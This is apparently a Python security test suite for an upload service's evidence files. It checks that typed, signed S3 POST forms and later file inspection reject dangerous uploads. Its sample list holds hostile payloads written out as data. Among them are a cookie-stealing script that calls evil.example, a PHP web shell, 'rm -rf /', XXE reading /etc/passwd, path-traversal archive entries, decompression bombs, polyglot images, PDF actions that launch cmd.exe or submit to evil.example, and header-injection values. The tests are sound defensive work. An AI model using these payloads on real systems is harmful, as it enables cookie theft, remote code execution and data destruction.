"""Files that are no evidence: another type, another size, two things in one, too much when unpacked, a path in a name.

Three doors: the announcement over the API; the form, whose conditions are read here as S3 reads them; and the look at
what came, for whoever got past the form. Refused is what is answered 4xx, what a condition does not allow, and what is
looked at and neither counts nor is linked.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from typing import Any

import botocore.session
from botocore.config import Config

from chalicelib.adapters.evidence import EvidenceBucket
from chalicelib.domain.evidence import Evidence
from chalicelib.usecases import evidence
from tests.api.gateway import call
from tests.security import samples
from tests.security.attempts import Attempt
from tests.security.doors import behind
from tests.security.samples import GOOD, box, chunk, pdf, stream
from tests.standins import stages
from tests.standins.shops import BUYER, MERCHANT, sell, shop
from tests.standins.world import World

NAME = "uploads"
TOKEN = "buyer:b1"
PNG = b"\x89PNG\r\n\x1a\n"
PAGE = b"<!DOCTYPE html><html><script>fetch('//evil.example/?'+document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PHP = b"<?php system($_GET['c']); __halt_compiler(); ?>"


def archive(content: bytes = b"MZ" + b"\0" * 90, name: str = "evidence.exe") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr(name, content)
    return made.getvalue()


def tar() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as opened:
        member = tarfile.TarInfo("../../etc/cron.d/x")
        opened.addfile(member, io.BytesIO())
    return made.getvalue()


OTHER: Mapping[str, bytes] = {
    "a page": PAGE,
    "a page without its head": b"<script>alert(1)</script>",
    "an SVG": SVG,
    "an SVG as XML": b'<?xml version="1.0"?>' + SVG,
    "PHP": PHP,
    "JSP": b"<%@ page import='java.io.*' %>",
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "a batch file": b"@echo off\r\ndel *.*\r\n",
    "a program for Windows": b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0",
    "a program for Linux": b"\x7fELF\2\1\1" + b"\0" * 60,
    "a class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 40,
    "WebAssembly": b"\0asm\1\0\0\0",
    "a shortcut": b"L\0\0\0\1\x14\2\0" + b"\0" * 60,
    "an archive": archive(),
    "a path in an archive": archive(name="../../etc/passwd"),
    "an archive of an archive": archive(archive(), "x.zip"),
    "a bomb of an archive": archive(b"\0" * 20_000_000, "x"),
    "a packed bomb": gzip.compress(b"\0" * 20_000_000),
    "a tape": tar(),
    "RAR": b"Rar!\x1a\x07\x01\0" + b"\0" * 40,
    "7z": b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 40,
    "a cabinet": b"MSCF" + b"\0" * 40,
    "an office document": archive(b"<w:document/>", "word/document.xml"),
    "an old office document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "RTF": b"{\\rtf1\\object}",
    "a mail": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAGE,
    "XML that reads files": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    "a GIF": b"GIF89a\1\0\1\0\x80\0\0;",
    "a bitmap": b"BM" + b"\0" * 60,
    "TIFF": b"II*\0\x08\0\0\0" + b"\0" * 20,
    "an icon": b"\0\0\1\0\1\0" + b"\0" * 40,
    "HEIC": box(b"ftyp", b"heic\0\0\0\0mif1heic"),
    "AVIF": box(b"ftyp", b"avif\0\0\0\0avif"),
    "QuickTime": samples.mp4(b"qt  "),
    "Matroska": b"\x1aE\xdf\xa3" + b"\0" * 40,
    "Flash": b"FWS\x09" + b"\0" * 40,
    "PostScript": b"%!PS-Adobe-3.0\n(x) run\n",
    "text": "一张照片".encode(),
    "nulls": b"\0" * 1000,
    "JSON": b'{"a": 1}',
    "one byte": b"\x89",
    "a signature alone": PNG,
}


def _wrong_types() -> Iterator[tuple[str, str, bytes]]:
    for name, content in OTHER.items():
        for kind in ("image/jpeg", "application/pdf"):
            yield f"{name} as {kind}", kind, content
    for kind in GOOD:
        for other, content in GOOD.items():
            if other != kind:
                yield f"{other} as {kind}", kind, content


def _broken() -> Iterator[tuple[str, str, bytes]]:
    for kind, content in GOOD.items():
        for share in (0.1, 0.3, 0.5, 0.7, 0.9):
            yield f"{share:.0%} of {kind}", kind, content[: int(len(content) * share)]
        yield f"all but the last byte of {kind}", kind, content.rstrip(b"\n")[:-1]
        yield f"one byte before {kind}", kind, b"\0" + content
        yield f"a line before {kind}", kind, b"\r\n" + content
        yield f"a page before {kind}", kind, PAGE + content
    yield "a PNG with a wrong checksum", "image/png", GOOD["image/png"].replace(b"IEND\xae", b"IEND\xaf")
    yield "a PNG that does not unpack", "image/png", _png(chunk(b"IDAT", b"not deflated"))
    yield "a PNG without pixels", "image/png", _png(b"")
    yield "a PNG with an unknown critical chunk", "image/png", _png(chunk(b"EVIL", b"x") + _pixels())
    yield "a JPEG without a picture", "image/jpeg", b"\xff\xd8\xff\xe0\0\x04JF\xff\xd9"
    yield "a JPEG that ends in its head", "image/jpeg", b"\xff\xd8\xff\xe0\xff\xff" + b"x" * 100
    yield "a WebP longer than it says", "image/webp", GOOD["image/webp"] + b"\0\0"
    yield "a WebP shorter than it says", "image/webp", GOOD["image/webp"][:-2]
    yield "a WebP of nothing", "image/webp", b"RIFF\x04\0\0\0WEBP"
    yield "a PDF without an end", "application/pdf", GOOD["application/pdf"].replace(b"%%EOF", b"%%EO")
    yield "a PDF of another age", "application/pdf", GOOD["application/pdf"].replace(b"%PDF-1.7", b"%PDF-9.9")
    yield "an MP4 without a film", "video/mp4", box(b"ftyp", b"isom\0\0\0\0isom")
    yield "an MP4 with a box of no size", "video/mp4", GOOD["video/mp4"] + struct.pack(">I", 4) + b"free"


def _png(middle: bytes, width: int = 1, height: int = 1) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return PNG + head + middle + chunk(b"IEND", b"")


def _pixels() -> bytes:
    return chunk(b"IDAT", zlib.compress(b"\0\x80"))


BEHIND: Mapping[str, bytes] = {
    "a page": PAGE,
    "an SVG": SVG,
    "PHP": PHP,
    "an archive": archive(),
    "a bomb": archive(b"\0" * 5_000_000),
    "a PDF": GOOD["application/pdf"],
    "a program": b"MZ" + b"\0" * 200,
    "a film": GOOD["video/mp4"],
    "a word": b"secret",
}


def _two_in_one() -> Iterator[tuple[str, str, bytes]]:
    for kind, content in GOOD.items():
        for name, more in BEHIND.items():
            if more != content:
                yield f"{kind} and {name} behind it", kind, content + more
    for name, more in BEHIND.items():
        if name in ("a word", "a program", "a film"):
            continue
        if name != "a PDF":  # an archive is found by its end, so it is tried where it may be: near it
            yield f"{name} in a JPEG's comment", "image/jpeg", _commented(more)
        yield f"{name} in a PNG's text", "image/png", _png(chunk(b"tEXt", b"Comment\0" + more) + _pixels())
        yield f"{name} in a PNG's own chunk", "image/png", _png(_pixels() + chunk(b"prVt", more))
        yield f"{name} in a film's free space", "video/mp4", samples.mp4(b"isom", box(b"free", more))
        yield f"{name} in a WebP's chunk", "image/webp", _riff(b"XMP ", more)
    for text in (
        b"<SCRIPT >",
        b"<ScRiPt/x>",
        b"<iframe src=x>",
        b"<img src=x onerror = alert(1)>",
        b"<a href=javascript:x>",
        b"<body>",
        b"<html>",
    ):
        yield f"{text.decode()} in a JPEG", "image/jpeg", _commented(text)
    yield "a page as a film's name", "video/mp4", samples.mp4(b"isom", box(b"udta", PAGE))
    yield (
        "an object in the middle of a PDF's stream",
        "application/pdf",
        pdf(b"<</Length 60>>stream\n9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\nendstream "),
    )


def _commented(more: bytes) -> bytes:
    more = more[:60_000]
    whole = GOOD["image/jpeg"]
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(more) + 2) + more + whole[2:]


def _riff(kind: bytes, data: bytes) -> bytes:
    body = GOOD["image/webp"][12:] + kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _active() -> Iterator[tuple[str, str, bytes]]:
    """Documents that do more than show."""
    acts = {
        "JavaScript": b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        "JavaScript by a number": b"/OpenAction<</S /JS/JS 5 0 R>>",
        "JavaScript in disguise": b"/OpenAction<</S/J#61vaScript/J#53(x)>>",
        "a start of a program": b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        "a form that is sent": b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>",
        "a file inside": b"/Names<</EmbeddedFiles 5 0 R>>",
        "a jump to another file": b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>",
        "an embedded jump": b"/OpenAction<</S/GoToE>>",
        "a form of XML": b"/AcroForm<</XFA 5 0 R>>",
        "rich media": b"/RichMedia 5 0 R",
        "data that are read in": b"/A<</S/ImportData/F(x)>>",
        "a film": b"/Movie 5 0 R",
        "a sound": b"/Sound 5 0 R",
        "a rendition": b"/A<</S/Rendition>>",
        "a body": b"/3D 5 0 R",
    }
    for name, said in acts.items():
        yield f"a PDF with {name}", "application/pdf", pdf(catalogue=said)
    packed = stream(b"9 0 <</S/JavaScript/JS(app.alert(1))>>", b"/Type/ObjStm/N 1/First 4")
    yield "a PDF with packed JavaScript", "application/pdf", pdf(packed)
    twice = b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n789c>\nendstream "
    yield "a PDF with objects packed otherwise", "application/pdf", pdf(twice)
    yield "a locked PDF", "application/pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 4>>")


def _vast() -> Iterator[tuple[str, str, bytes]]:
    """Small when they come, and too much for who opens them."""
    for width, height in ((65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (20_000, 20_000), (0, 1), (1, 0)):
        yield f"a PNG of {width} by {height}", "image/png", _png(_pixels(), width, height)
    for width, height in ((65_535, 65_535), (0, 0), (65_535, 2000)):
        yield f"a JPEG of {width} by {height}", "image/jpeg", _resized(width, height)
    canvas = b"\0" * 4 + b"\xff\xff\xff" + b"\xff\xff\xff"
    body = b"VP8X" + struct.pack("<I", 10) + canvas + GOOD["image/webp"][12:]
    yield "a WebP of a vast canvas", "image/webp", b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body
    bomb = zlib.compress(b"\0" * 80_000_000, 9)
    yield "a PNG with a bomb of a text", "image/png", _png(chunk(b"zTXt", b"Comment\0\0" + bomb) + _pixels())
    yield "a PNG with a bomb of a profile", "image/png", _png(chunk(b"iCCP", b"p\0\0" + bomb) + _pixels())
    words = b"Comment\0\1\0\0\0" + bomb
    yield "a PNG with a bomb in its own tongue", "image/png", _png(chunk(b"iTXt", words) + _pixels())
    yield "a PDF with a bomb", "application/pdf", pdf(b"<</Filter/FlateDecode>>stream\n" + bomb + b"\nendstream ")
    halves = [b"<</Filter/FlateDecode>>stream\n" + zlib.compress(b"\0" * 40_000_000, 9) + b"\nendstream "] * 2
    yield "a PDF with two halves of a bomb", "application/pdf", pdf(*halves)
    yield "a PNG of too many pieces", "image/png", _png(chunk(b"tEXt", b"") * 20_001 + _pixels())
    yield "an MP4 of too many pieces", "video/mp4", samples.mp4(b"isom", box(b"free") * 20_001)
    yield "a PDF of too many pieces", "application/pdf", pdf(b"<<>>stream\nendstream " * 20_001)


def _resized(width: int, height: int) -> bytes:
    whole = GOOD["image/jpeg"]
    at = whole.index(b"\xff\xc2" if b"\xff\xc2" in whole else b"\xff\xc0")
    return whole[: at + 5] + struct.pack(">HH", height, width) + whole[at + 9 :]


CONTENTS: Mapping[str, Callable[[], Iterator[tuple[str, str, bytes]]]] = {
    "a name and a type are what somebody says; the bytes are what it is": _wrong_types,
    "half a file, or one with a head of its own, is read differently by everybody": _broken,
    "a picture that is also a page or an archive runs where somebody takes it for that": _two_in_one,
    "a document that acts, acts in the name of who opens it": _active,
    "what unpacks without end stops who opens it": _vast,
}


def attempts() -> Iterator[Attempt]:
    for why, sort in CONTENTS.items():
        for name, kind, content in sort():
            yield Attempt(name, why, lambda kind=kind, content=content: _not_taken(kind, content))
    yield from _announced()
    yield from _posted()
    yield from _stored()


def _scene() -> tuple[World, str]:
    world = shop()
    sell(world)
    return world, stages.in_review(world)


def _announce(world: World, case_id: str, body: Any, key: str = "k1") -> Any:
    with behind(world):
        return call("POST", f"/cases/{case_id}/evidence", body, token=TOKEN, key=key)


def _looked_at(kind: str, content: bytes, stored_as: str | None = None, size: int | None = None) -> tuple[World, str]:
    """A file that was announced as it should be, and came as it is."""
    world, case_id = _scene()
    form = _announce(world, case_id, {"content_type": kind, "size": size or max(1, len(content))}).body
    world.evidence.put(form["fields"]["key"], content, stored_as or kind)
    with behind(world):
        evidence.look_at(world, form["fields"]["key"])
    return world, case_id


def _effect(world: World, case_id: str) -> str | None:
    """What of a file that should count for nothing can be noticed."""
    shown = [view for who in (BUYER, MERCHANT) for view in evidence.listing(world, who, case_id).body["items"]]
    if any(view["url"] or view["state"]["code"] == "accepted" for view in shown):
        return "it is shown"
    if world.case(case_id).evidence or "EvidenceAdded" in world.told(case_id):
        return "it counts"
    if any(file.state == "announced" for file in world.records.all(Evidence)):
        return "nobody looked"
    return None


def _not_taken(kind: str, content: bytes) -> str | None:
    return _effect(*_looked_at(kind, content))


def _announced() -> Iterator[Attempt]:
    why = "only what the policy names is given a form"
    kinds = (
        "text/html",
        "image/svg+xml",
        "application/zip",
        "application/javascript",
        "application/octet-stream",
        "image/gif",
        "application/x-msdownload",
        "text/plain",
        "application/xhtml+xml",
        "image/*",
        "*/*",
        "image/png; charset=utf-8",
        "image/png;x=<script>",
        "image/png, text/html",
        "IMAGE/PNG",
        " image/png",
        "image/png ",
        "image/png\r\nx-amz-acl: public",
        "image/png\0",
        "image",
        "/",
        "",
        "image/png/../x",
        "multipart/form-data",
        "image/jpg",
        "application/pdf#x",
        "../png",
        None,
        7,
        ["image/png"],
        {"a": 1},
    )
    for kind in kinds:
        yield Attempt(f"announced as {kind!r}", why, lambda kind=kind: _no_form({"content_type": kind, "size": 10}))
    for size in (0, -1, 10 * 1024 * 1024 + 1, 2**31, 2**63, 10**30, 1.5, "10", None, True, [1], 1e400):
        yield Attempt(
            f"of {size!r} bytes", why, lambda size=size: _no_form({"content_type": "image/png", "size": size})
        )
    for name in ("key", "object_key", "filename", "name", "acl", "bucket", "url", "state", "content_disposition", "by"):
        body = {"content_type": "image/png", "size": 10, name: "../../evil"}
        yield Attempt(f"with a {name} of one's own", "nobody names his file", lambda body=body: _no_form(body))


def _no_form(body: dict[str, Any]) -> str | None:
    world, case_id = _scene()
    before = len(world.records.saves)
    answer = _announce(world, case_id, json.dumps(body))
    if 400 <= answer.status < 500 and len(world.records.saves) == before:
        return None
    return f"answered {answer.status}: {answer.text[:100]}"


KEY = "evidence/case_00000000000000000000000001/evd_00000000000000000000000001"


@cache
def form() -> dict[str, str]:
    """What the real adapter signs: a form for a PNG of at most a thousand bytes."""
    session = botocore.session.Session()
    session.set_credentials("x", "x")
    config = Config(signature_version="s3v4")
    client: Any = session.create_client("s3", region_name="eu-west-1", config=config)
    return dict(EvidenceBucket(client, "the-bucket").upload(KEY, "image/png", 1000).fields)


def allowed(fields: Mapping[str, str], size: int) -> bool:
    """Whether S3 would take this POST: its reading of a policy, in which every field must be named.

    Source: Amazon S3 API reference, "Creating a POST policy": `x-amz-signature`, `file`, `policy` and fields that begin
    with `x-ignore-` need no condition.
    """
    sent = {name.lower(): value for name, value in fields.items()}
    if sent.get("policy") != form()["policy"] or sent.get("x-amz-signature") != form()["x-amz-signature"]:
        return False
    named: dict[str, str] = {}
    for condition in json.loads(base64.b64decode(sent["policy"]))["conditions"]:
        match condition:
            case ["content-length-range", low, high]:
                if not low <= size <= high:
                    return False
            case ["eq", str(name), value]:
                named[name.removeprefix("$").lower()] = value
            case dict():
                named |= {name.lower(): value for name, value in condition.items()}
            case _:
                return False
    free = {"policy", "x-amz-signature", "file"}
    known = {name for name in sent if name not in free and not name.startswith("x-ignore-")}
    return known <= set(named) and all(
        sent.get(name, "the-bucket" if name == "bucket" else None) == value for name, value in named.items()
    )


def _posted() -> Iterator[Attempt]:
    why = "a form is for one object, one type, one size, and nothing else"
    keys = (
        "evidence/case_9/evd_1",
        "../" + KEY,
        KEY + "/../x",
        KEY + ".html",
        KEY + "/${filename}",
        "${filename}",
        KEY.upper(),
        "",
        "/" + KEY,
        KEY + " ",
        "index.html",
        KEY.replace("/", "//"),
        KEY + "\0",
        KEY + "%2f..",
        KEY[:-1] + "2",
        KEY[1:],
    )
    for key in keys:
        yield Attempt(f"posted to {key!r}", why, lambda key=key: _not_allowed(key=key))
    for kind in ("text/html", "image/svg+xml", "image/PNG", "image/png; charset=utf-8", "image/png,text/html", ""):
        yield Attempt(f"posted as {kind!r}", why, lambda kind=kind: _not_allowed(**{"Content-Type": kind}))
    more = {
        "acl": "public-read",
        "success_action_redirect": "https://evil.example",
        "redirect": "https://evil.example",
        "success_action_status": "201",
        "x-amz-meta-x": "y",
        "Content-Disposition": "inline",
        "Content-Encoding": "gzip",
        "Cache-Control": "public",
        "Expires": "0",
        "x-amz-website-redirect-location": "https://evil.example",
        "tagging": "<x/>",
        "x-amz-storage-class": "GLACIER",
        "x-amz-server-side-encryption": "aws:kms",
        "x-amz-grant-read": "*",
        "x-amz-security-token": "x",
    }
    for name, value in more.items():
        yield Attempt(f"posted with {name}", why, lambda name=name, value=value: _not_allowed(**{name: value}))
    for size in (0, 1001, 10**9):
        yield Attempt(f"{size} bytes posted", why, lambda size=size: _not_allowed(size))
    yield Attempt("another policy", why, lambda: _not_allowed(policy=base64.b64encode(b'{"conditions": []}').decode()))
    yield Attempt("another signature", why, lambda: _not_allowed(**{"x-amz-signature": "0" * 64}))


def _not_allowed(size: int = 1000, **changes: str) -> str | None:
    return "the form allows it" if allowed({**form(), **changes}, size) else None


def _stored() -> Iterator[Attempt]:
    """Past the form, as if it had not held."""
    png = GOOD["image/png"]
    for kind in (
        "text/html",
        "image/svg+xml",
        "image/jpeg",
        "image/png; charset=utf-8",
        "",
        "application/octet-stream",
    ):
        yield Attempt(
            f"a picture that the bucket holds as {kind!r}",
            "the bucket would say so to who downloads",
            lambda kind=kind: _effect(*_looked_at("image/png", png, stored_as=kind or "x")),
        )
    for more in (1, 1000, 2_000_000):
        content = _png(chunk(b"prVt", b"\0" * more) + _pixels())
        yield Attempt(
            f"{more} bytes more than announced",
            "the limit holds also where a form did not",
            lambda content=content: _effect(*_looked_at("image/png", content, size=len(png))),
        )
    yield Attempt("nothing at all", "nothing shows nothing", lambda: _effect(*_looked_at("image/png", b"")))
    yield Attempt("exchanged after it was looked at", "the form is good for ten minutes", _exchanged)


def _exchanged() -> str | None:
    world, case_id = _looked_at("image/png", GOOD["image/png"])
    [file] = world.records.all(Evidence)
    world.evidence.put(file.object_key, PAGE, "image/png")
    evidence.look_at(world, file.object_key)
    [shown] = evidence.listing(world, MERCHANT, case_id).body["items"]
    return None if "version=v1&" in str(shown["url"]) else "what was exchanged is linked"


def controls() -> Iterator[Attempt]:
    more = {
        "a JPEG with a comment": ("image/jpeg", _commented(b"taken in the kitchen")),
        "a JPEG and its second picture": ("image/jpeg", GOOD["image/jpeg"] * 2),
        "a JPEG and zeros": ("image/jpeg", GOOD["image/jpeg"] + b"\0" * 64),
        "a PNG with a text": ("image/png", _png(chunk(b"tEXt", b"Software\0a telephone") + _pixels())),
        "a PNG with a packed text": (
            "image/png",
            _png(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"x" * 99)) + _pixels()),
        ),
        "a PDF that opens at its first page": ("application/pdf", pdf(catalogue=b"/OpenAction[3 0 R/Fit]")),
        "a PDF with a link": ("application/pdf", pdf(b"<</Type/Annot/A<</S/URI/URI(https://shop.example)>>>>")),
        "a PDF whose drawing says JavaScript": ("application/pdf", pdf(stream(b"(/JavaScript) Tj"))),
        "a PDF with packed objects": (
            "application/pdf",
            pdf(stream(b"9 0 <</Type/Font>>", b"/Type/ObjStm/N 1/First 4")),
        ),
        "a film of a telephone": ("video/mp4", samples.mp4(b"mp42")),
    }
    for kind, content in GOOD.items():
        yield Attempt(
            f"a good {kind}", "people show what happened", lambda kind=kind, content=content: _taken(kind, content)
        )
    for name, (kind, content) in more.items():
        yield Attempt(
            name, "telephones and printers make these", lambda kind=kind, content=content: _taken(kind, content)
        )
    yield Attempt("a form as it was given", "browsers send it so", lambda: None if allowed(form(), 1000) else "refused")


def _taken(kind: str, content: bytes) -> str | None:
    world, case_id = _looked_at(kind, content)
    [shown] = evidence.listing(world, BUYER, case_id).body["items"]
    if world.case(case_id).evidence == 1 and shown["url"]:
        return None
    return f"not taken: {(shown['refused_because'] or shown['state'])['code']}"
